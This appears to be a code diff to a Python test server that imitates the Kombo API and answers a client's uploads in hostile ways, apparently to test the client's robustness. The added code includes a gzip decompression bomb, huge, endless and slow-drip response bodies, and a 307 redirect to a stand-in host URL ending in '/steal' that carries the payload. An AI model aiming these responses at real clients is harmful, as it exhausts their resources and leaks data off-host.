@@ -9,7 +9,11 @@ in Kombo's shapes) and rewrites each answer:
   warning;
 - ``mode="error"``: every answer is Kombo's error envelope with the payload in ``code``,
   ``title``, ``message`` and ``log_url`` (status 400, or 500 with ``status=500``);
-- ``mode="deep"``: every answer is JSON nested 100,000 levels deep.
+- ``mode="deep"``: every answer is JSON nested 100,000 levels deep;
+- the *answer* modes let the sandbox take each upload (it is stored: the upload went out),
+  then answer the POST pathologically — ``"huge"`` 50 MB, ``"bomb"`` a gzip body inflating to
+  256 MB, ``"endless"`` a body that never ends (64 kB chunks, until 200 MB), ``"drip"`` a byte
+  every 0.2 s (for a minute), ``"redirect"`` a 307 to another host; reads answer as usual.
 
 Strings that look like enum values, dates or e-mails are kept, so the answers still parse:
 what the tool shows is hostile, not malformed.
@@ -20,8 +24,10 @@ Use :func:`hostile_server` for a loopback HTTP server (the CLI), or the app with
 
 from __future__ import annotations
 
+import asyncio
 import json
 import re
+import zlib
 from collections.abc import Iterator, MutableMapping
 from contextlib import contextmanager
 from typing import Any
@@ -106,6 +112,10 @@ class HostileKombo:
         if self.mode == "deep":
             await _answer(send, 200, b'{"status":"success","data":' + b"[" * 100_000 + b"]" * 100_000 + b"}")
             return
+        if self.mode in ANSWER_MODES and scope["method"] == "POST":
+            await self.inner(scope, receive, _drop)  # the sandbox stores the upload; its answer is replaced
+            await _pathological(send, self.mode, self.payload)
+            return
         start: dict[str, Any] = {}
         chunks: list[bytes] = []
 
@@ -127,6 +137,55 @@ class HostileKombo:
                 doc["warnings"] = [{"message": self.payload}, self.payload]
             raw = json.dumps(doc).encode()
         await _answer(send, start.get("status", 200), raw)
+
+
+ANSWER_MODES = ("huge", "bomb", "endless", "drip", "redirect")
+"""Modes that answer an upload pathologically after the sandbox stored it."""
+
+_BOMB: list[bytes] = []
+
+
+def _bomb() -> bytes:
+    """A gzip body of 256 MB of zeros (about 250 kB), made once."""
+    if not _BOMB:
+        packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+        zeros = b"\0" * (1 << 20)
+        _BOMB.append(b"".join([*(packer.compress(zeros) for _ in range(256)), packer.flush()]))
+    return _BOMB[0]
+
+
+async def _drop(message: MutableMapping[str, Any]) -> None:
+    return None
+
+
+async def _pathological(send: Any, mode: str, payload: str) -> None:
+    headers = [(b"content-type", b"application/json")]
+    if mode == "redirect":
+        location = f"https://elsewhere.example/steal?k={payload}".encode()
+        await send({"type": "http.response.start", "status": 307, "headers": [*headers, (b"location", location)]})
+        await send({"type": "http.response.body", "body": b"{}"})
+        return
+    if mode == "bomb":
+        await send({"type": "http.response.start", "status": 200, "headers": [*headers, (b"content-encoding", b"gzip")]})
+        await send({"type": "http.response.body", "body": _bomb()})
+        return
+    await send({"type": "http.response.start", "status": 200, "headers": headers})
+    if mode == "huge":
+        chunk = b" " * (1 << 20)
+        for _ in range(50):
+            await send({"type": "http.response.body", "body": chunk, "more_body": True})
+        await send({"type": "http.response.body", "body": b"{}"})
+        return
+    if mode == "endless":
+        chunk = b" " * (64 << 10)
+        for _ in range(200 * 16):  # 200 MB: for the client, without end
+            await send({"type": "http.response.body", "body": chunk, "more_body": True})
+        await send({"type": "http.response.body", "body": b"{}"})
+        return
+    for _ in range(300):  # drip: a minute, a byte at a time
+        await send({"type": "http.response.body", "body": b" ", "more_body": True})
+        await asyncio.sleep(0.2)
+    await send({"type": "http.response.body", "body": b"{}"})
 
 
 async def _answer(send: Any, status: int, body: bytes) -> None:
